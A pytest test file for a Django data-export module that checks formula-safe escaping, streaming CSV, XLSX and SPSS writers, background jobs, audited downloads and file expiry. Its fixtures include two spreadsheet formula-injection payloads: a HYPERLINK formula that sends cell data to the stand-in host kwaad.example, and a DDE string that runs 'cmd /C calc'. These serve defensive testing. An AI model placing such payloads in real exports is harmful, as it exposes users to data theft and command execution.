"""The export kit: formula-safe cells, the three streaming writers, the registry, the background
job with progress, the audited download, expiry and purging."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import pyreadstat
import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.core.files.storage import default_storage
from django.http import Http404
from django.utils import timezone
from openpyxl import load_workbook

from burgerlink.core.exports import (
    Column,
    ExportKind,
    PreparedExport,
    by_columns,
    get_kind,
    open_writer,
    register_kind,
    safe_cell,
    safe_text,
    write_table,
)
from burgerlink.core.exports import services as export_services
from burgerlink.core.exports.http import download_response, status_context
from burgerlink.core.exports.jobs import run_export
from burgerlink.core.exports.registry import _KINDS
from burgerlink.core.exports.selectors import export_of, exports_of
from burgerlink.core.models import AuditEvent, Export, ExportStatus, Organisation, User
from burgerlink.core.permissions import Perm

HYPERLINK = '=HYPERLINK("https://kwaad.example/?d="&A2,"Klik hier")'
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
COLUMNS = [
    Column("NR", "Volgnummer", "number", measure="scale"),
    Column("NAAM", "=Naam van de klant", "text", width=80),
    Column("BEDRAG", "Bedrag", "number", decimals=2, measure="scale"),
    Column("DAG", "Dag", "date"),
    Column("MOMENT", "Moment", "datetime"),
]
MOMENT = datetime(2026, 7, 1, 10, 30, tzinfo=UTC)  # 12:30 in Amsterdam (summer time)
LOCAL = timezone.localtime(MOMENT).replace(tzinfo=None)  # what a spreadsheet shows
ROWS: list[list[Any]] = [
    [1, HYPERLINK, -3.5, date(2026, 3, 31), MOMENT],
    [2, AT_SUM, Decimal("-12.25"), None, None],
    [3, "-3", 1_000_000, date(2026, 12, 7), MOMENT],
    [4, "\tverborgen", float("nan"), None, None],
    [5, "Gewone tekst; met puntkomma", None, None, None],
]


@pytest.fixture(autouse=True)
def private_media(settings: Any, tmp_path: Path) -> Path:
    """Export files go to a temporary media root."""
    settings.MEDIA_ROOT = tmp_path / "media"
    return Path(settings.MEDIA_ROOT)


# --- one function for formula safety -----------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_a_spreadsheet_would_run_gets_an_apostrophe(start: str) -> None:
    assert safe_text(f"{start}1+1") == f"'{start}1+1"
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"


def test_numbers_dates_and_plain_text_pass_unchanged() -> None:
    for value in (-3, -3.5, Decimal("-12.25"), 0, True, date(2026, 1, 1), None):
        assert safe_cell(value) == value
        assert type(safe_cell(value)) is type(value)
    assert safe_cell("Gewone tekst") == "Gewone tekst"
    assert safe_cell(" =1") == " =1"  # a leading space makes it text already
    assert safe_cell("-3") == "'-3"  # text that looks like a number is text


# --- the writers -------------------------------------------------------------------------------


def written(file_format: str, chunk_size: int = 2) -> bytes:
    """The fixture rows written in chunks of ``chunk_size``."""
    stream = io.BytesIO()
    writer = open_writer(file_format, stream, COLUMNS, title="Proef", sheet="Klanten")
    chunks = [
        by_columns(ROWS[start : start + chunk_size], len(COLUMNS))
        for start in range(0, len(ROWS), chunk_size)
    ]
    seen: list[int] = []
    assert write_table(writer, chunks, progress=seen.append) == len(ROWS)
    assert seen == [2, 4, 5]
    return stream.getvalue()


def test_csv_neutralises_formulas_and_keeps_numbers_as_numbers() -> None:
    data = written("csv")
    assert data.startswith(b"\xef\xbb\xbf")  # a byte-order mark, for Excel
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == ["NR", "NAAM", "BEDRAG", "DAG", "MOMENT"]
    names = [row[1] for row in rows[1:]]
    assert names == [
        "'" + HYPERLINK,
        "'" + AT_SUM,
        "'-3",
        "'\tverborgen",
        "Gewone tekst; met puntkomma",
    ]
    assert [row[2] for row in rows[1:]] == ["-3.5", "-12.25", "1000000", "", ""]
    assert rows[1][3] == "2026-03-31" and rows[2][3] == ""
    assert rows[1][4] == "2026-07-01 12:30:00"  # local time, as a spreadsheet shows it


def test_xlsx_writes_formulas_as_text_and_numbers_as_numbers() -> None:
    book = load_workbook(io.BytesIO(written("xlsx")))
    assert book.sheetnames == ["Klanten", "Variabelen"]
    sheet = book["Klanten"]
    cells = {cell.coordinate: cell for row in sheet.iter_rows() for cell in row}
    assert cells["B2"].value == "'" + HYPERLINK and cells["B2"].data_type == "s"
    assert cells["B3"].value == "'" + AT_SUM and cells["B3"].data_type == "s"
    assert not any(cell.data_type == "f" for cell in cells.values())  # no formula anywhere
    assert cells["C2"].value == -3.5 and cells["C2"].data_type == "n"
    assert cells["C3"].value == -12.25
    assert cells["C5"].value is None  # NaN: missing
    assert cells["D2"].value.date() == date(2026, 3, 31)
    assert cells["E2"].value == LOCAL and LOCAL.hour == 12
    codebook = [list(row) for row in book["Variabelen"].iter_rows(values_only=True)]
    assert codebook[0] == ["Variabele", "Omschrijving", "Waarden"]
    assert codebook[2][:2] == ["NAAM", "'=Naam van de klant"]  # labels too


def test_sav_keeps_texts_exactly_and_labels_its_variables(tmp_path: Path) -> None:
    path = tmp_path / "proef.sav"
    path.write_bytes(written("sav"))
    frame, meta = pyreadstat.read_sav(str(path))
    assert meta.file_label == "Proef"
    assert meta.number_rows == 5
    assert dict(zip(meta.column_names, meta.column_labels, strict=True))["NAAM"] == (
        "=Naam van de klant"
    )
    # SPSS does not run cell contents: the data stay as they were typed.
    assert frame["NAAM"].tolist()[:2] == [HYPERLINK, AT_SUM]
    assert frame["BEDRAG"].tolist()[:3] == [-3.5, -12.25, 1_000_000.0]
    assert frame["DAG"].tolist()[0] == date(2026, 3, 31)
    assert frame["MOMENT"].tolist()[0] == LOCAL


def test_xlsx_drops_characters_a_workbook_cannot_hold() -> None:
    stream = io.BytesIO()
    writer = open_writer("xlsx", stream, [Column("T", "Tekst")])
    write_table(writer, [[["bel\x07letje", "regel\neen"]]])
    sheet = load_workbook(io.BytesIO(stream.getvalue()))["Gegevens"]
    assert [row[0] for row in sheet.iter_rows(values_only=True)] == ["T", "belletje", "regel\neen"]


def test_writers_refuse_chunks_that_do_not_fit() -> None:
    for file_format in ("csv", "xlsx", "sav"):
        writer = open_writer(file_format, io.BytesIO(), COLUMNS)
        with pytest.raises(ValueError):
            writer.write([[1], [2]])
        writer.close()  # what was written before stays a valid file
    with pytest.raises(ValueError):
        by_columns([[1, 2, 3]], 2)
    with pytest.raises(ValueError):
        open_writer("pdf", io.BytesIO(), COLUMNS)


def test_chunks_are_read_one_at_a_time() -> None:
    """The writer pulls the next chunk only after writing the last: memory holds one chunk."""
    pulled: list[int] = []

    def chunks() -> Iterator[list[list[Any]]]:
        for number in range(3):
            pulled.append(number)
            yield [[number], [f"rij {number}"], [None], [None], [None]]

    stream = io.BytesIO()
    writer = open_writer("csv", stream, COLUMNS)
    progress: list[tuple[int, list[int]]] = []
    write_table(writer, chunks(), progress=lambda done: progress.append((done, list(pulled))))
    assert progress == [(1, [0]), (2, [0, 1]), (3, [0, 1, 2])]


# --- the registry and the background job --------------------------------------------------------

KIND = "tests.customers"


@pytest.fixture
def customers_kind() -> Iterator[ExportKind]:
    """A small export kind registered for one test: the fixture rows, for quality managers."""

    def prepare(export: Export) -> PreparedExport:
        rows = ROWS[: int(export.params.get("rows", len(ROWS)))]
        chunks = (by_columns(rows[start : start + 2], len(COLUMNS)) for start in range(0, 5, 2))
        return PreparedExport(COLUMNS, [chunk for chunk in chunks if chunk[0]], len(rows))

    kind = ExportKind(
        name=KIND,
        permission=Perm.HANDLE_CLAIMS,
        count=lambda export: int(export.params.get("rows", len(ROWS))),
        prepare=prepare,
        describe=lambda export: f"klanten {export.subject}",
        file_stem=lambda export: f"klanten-{export.subject}",
        formats=("csv", "xlsx"),
        rows_word="klanten",
        empty_message="Geen klanten om te exporteren.",
    )
    register_kind(kind)
    yield kind
    _KINDS.pop(KIND, None)


def request(
    user: User, organisation: Organisation, file_format: str = "csv", **params: Any
) -> Export:
    return export_services.request_export(
        organisation=organisation,
        kind=KIND,
        subject="2026",
        file_format=file_format,
        by=user,
        params=params,
    )


def test_a_registered_kind_runs_in_the_background_with_progress_and_expiry(
    customers_kind: ExportKind, kees_quality: User, amstelstad: Organisation
) -> None:
    assert get_kind(KIND) is customers_kind
    export = request(kees_quality, amstelstad)
    export.refresh_from_db()
    assert export.status == ExportStatus.DONE
    assert (export.rows_done, export.rows_total) == (5, 5)
    assert export.file.name.startswith(f"exports/{amstelstad.pk}/klanten-2026-export-{export.pk}-")
    assert export.finished_at is not None and export.expires_at is not None
    assert export.expires_at - export.finished_at == timedelta(days=7)
    assert list(exports_of(amstelstad, KIND, "2026")) == [export]
    audit = AuditEvent.objects.get(action=f"export.{KIND}.request")
    assert audit.summary == "klanten 2026: csv, 5 klanten"
    assert audit.object_type == "core.export" and audit.object_id == str(export.pk)


def test_the_download_is_audited_and_never_cached(
    customers_kind: ExportKind, kees_quality: User, amstelstad: Organisation
) -> None:
    export = request(kees_quality, amstelstad, "xlsx")
    export.refresh_from_db()
    response = download_response(export, by=kees_quality)
    assert response["Cache-Control"] == "no-store"
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert response["Content-Disposition"].startswith('attachment; filename="klanten-2026-')
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    assert book.active["B2"].value == "'" + HYPERLINK
    assert AuditEvent.objects.filter(action=f"export.{KIND}.download", actor=kees_quality).exists()


def test_requests_are_refused_with_a_reason(
    customers_kind: ExportKind,
    kees_quality: User,
    carla_comms: User,
    amstelstad: Organisation,
) -> None:
    with pytest.raises(ValidationError, match="Geen klanten om te exporteren"):
        request(kees_quality, amstelstad, rows=0)
    with pytest.raises(ValidationError, match="bestandsformaat"):
        request(kees_quality, amstelstad, "sav")  # the kind does not offer SPSS
    with pytest.raises(PermissionDenied):
        request(carla_comms, amstelstad)  # communications may not handle claims
    assert not Export.objects.exists()
    assert not AuditEvent.objects.filter(action__startswith="export.").exists()


def test_an_excel_export_larger_than_a_sheet_is_refused(
    customers_kind: ExportKind, kees_quality: User, amstelstad: Organisation
) -> None:
    with pytest.raises(ValidationError, match="1.048.575"):
        request(kees_quality, amstelstad, "xlsx", rows=1_048_576)


def test_expired_and_unfinished_exports_are_not_served(
    customers_kind: ExportKind,
    kees_quality: User,
    carla_comms: User,
    amstelstad: Organisation,
) -> None:
    export = request(kees_quality, amstelstad)
    export.refresh_from_db()
    with pytest.raises(PermissionDenied):
        download_response(export, by=carla_comms)
    Export.objects.filter(pk=export.pk).update(expires_at=timezone.now() - timedelta(minutes=1))
    export.refresh_from_db()
    with pytest.raises(Http404):
        download_response(export, by=kees_quality)
    queued = Export.objects.create(
        organisation=amstelstad, kind=KIND, subject="2026", file_format="csv"
    )
    with pytest.raises(Http404):
        download_response(queued, by=kees_quality)
    assert not AuditEvent.objects.filter(action__endswith=".download").exists()


def test_purging_erases_expired_files_and_keeps_the_record(
    customers_kind: ExportKind, kees_quality: User, amstelstad: Organisation
) -> None:
    old, fresh = request(kees_quality, amstelstad), request(kees_quality, amstelstad)
    old.refresh_from_db()
    fresh.refresh_from_db()
    name = old.file.name
    assert default_storage.exists(name)
    assert export_services.purge_expired_exports(timezone.now() + timedelta(days=8)) == 2
    assert not default_storage.exists(name)
    old.refresh_from_db()
    assert old.file.name == "" and old.status == ExportStatus.DONE
    assert export_services.purge_expired_exports(timezone.now() + timedelta(days=8)) == 0


def test_an_export_whose_worker_was_killed_is_written_again_when_its_task_runs_again(
    customers_kind: ExportKind, kees_quality: User, amstelstad: Organisation
) -> None:
    export = request(kees_quality, amstelstad)
    # As a killed worker leaves it: running, half-way, no file; the workers requeue its task.
    Export.objects.filter(pk=export.pk).update(status=ExportStatus.RUNNING, rows_done=2, file="")
    rerun = run_export(export.pk)
    assert rerun is not None and rerun.status == ExportStatus.DONE
    assert (rerun.rows_done, rerun.rows_total) == (5, 5)
    with default_storage.open(rerun.file.name) as stored:
        assert len(stored.read().decode("utf-8-sig").splitlines()) == 6
    assert run_export(export.pk) is None  # done is done: a stray rerun changes nothing


def test_a_failing_kind_marks_the_export_failed(
    customers_kind: ExportKind, kees_quality: User, amstelstad: Organisation
) -> None:
    def broken(export: Export) -> PreparedExport:
        raise RuntimeError("de bron is weg")

    register_kind(
        ExportKind(
            name=KIND,
            permission=Perm.HANDLE_CLAIMS,
            count=lambda export: 1,
            prepare=broken,
            describe=lambda export: "klanten",
            file_stem=lambda export: "klanten",
        )
    )
    export = request(kees_quality, amstelstad)
    export.refresh_from_db()
    assert export.status == ExportStatus.FAILED
    assert export.error == "de bron is weg"
    assert not export.file


def test_exports_are_found_only_in_their_own_organisation(
    customers_kind: ExportKind,
    kees_quality: User,
    amstelstad: Organisation,
    heidedorp: Organisation,
) -> None:
    export = request(kees_quality, amstelstad)
    assert export_of(amstelstad, export.pk) == export
    assert export_of(amstelstad, export.pk, kind="surveys.responses") is None
    assert export_of(heidedorp, export.pk) is None
    assert export_of(amstelstad, 2**70) is None  # no overflow error from the database


def test_the_status_list_polls_only_while_an_export_runs(
    customers_kind: ExportKind, kees_quality: User, amstelstad: Organisation
) -> None:
    from django.template.loader import render_to_string

    done = request(kees_quality, amstelstad)
    running = Export.objects.create(
        organisation=amstelstad,
        kind=KIND,
        subject="2026",
        file_format="xlsx",
        status=ExportStatus.RUNNING,
        rows_done=1234,
        rows_total=5000,
    )

    def html() -> str:
        context = status_context(
            exports_of(amstelstad, KIND, "2026"),
            download_url=lambda export: f"/download/{export.pk}/",
            status_url="/status/",
            refresh_url="/pagina/#exports",
            caption="Exports van de klanten",
            nouns=("klant", "klanten"),
        )
        return render_to_string("web/includes/export_status.html", context)

    page = html()
    assert 'hx-get="/status/"' in page and 'hx-trigger="every 2s"' in page
    assert "1.234 van 5.000 klanten" in page  # Dutch thousands separators
    assert '<progress max="5000" value="1234"' in page
    assert 'href="/pagina/#exports"' in page  # without JavaScript: a link that reloads
    assert f'href="/download/{done.pk}/"' in page
    assert f'href="/download/{running.pk}/"' not in page
    Export.objects.filter(pk=running.pk).update(status=ExportStatus.DONE, rows_done=5000)
    page = html()
    assert "hx-get" not in page and "/pagina/#exports" not in page  # nothing left to wait for
    assert "Klaar: 5.000 klanten" in page


def test_the_purge_command_reports_what_it_erased(
    customers_kind: ExportKind, kees_quality: User, amstelstad: Organisation
) -> None:
    from django.core.management import call_command

    export = request(kees_quality, amstelstad)
    Export.objects.filter(pk=export.pk).update(expires_at=timezone.now() - timedelta(seconds=1))
    out = io.StringIO()
    call_command("purge-exports", stdout=out)
    assert out.getvalue().strip() == "1 exportbestand(en) gewist (downloadtermijn: 7 dagen)."
    export.refresh_from_db()
    assert not export.file
